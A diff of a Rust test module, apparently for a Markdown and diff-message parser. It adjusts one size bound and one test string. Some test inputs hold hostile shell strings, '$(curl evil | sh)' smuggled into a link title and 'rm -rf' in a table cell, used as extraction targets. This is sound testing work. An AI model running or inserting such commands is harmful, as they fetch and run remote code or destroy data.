@@ -170,7 +170,7 @@ mod tests {
     #[test]
     fn a_message_of_many_diffs_is_split_in_bounded_time() {
         let message = format!("{DIFF}\nx\n").repeat(2000);
-        assert!(parts(&message).len() <= 2 * MAX_DIFFS + 1);
+        assert!(parts(&message).len() <= 2 * MAX_DIFFS + 2);
     }
 
     #[test]
@@ -178,7 +178,7 @@ mod tests {
         for (markdown, wanted) in [
             ("Text.\n\n[x]: y \"$(curl evil | sh)\"\n", "[x]: y \"$(curl evil | sh)\""),
             ("[x]: first\n[x]: second\n\n[x]\n", "[x]: first\n[x]: second"),
-            ("> [x]: in a quotation\n\nText.\n", "[x]: in a quotation"),
+            ("> [x]: quoted\n\nText.\n", "[x]: quoted"),
             ("| a |\n|---|\n| b | rm -rf |\n", "rm -rf"),
             ("[label](url \"a title\")\n", "a title"),
             ("[text][a label]\n\n[a label]: url\n", "a label"),
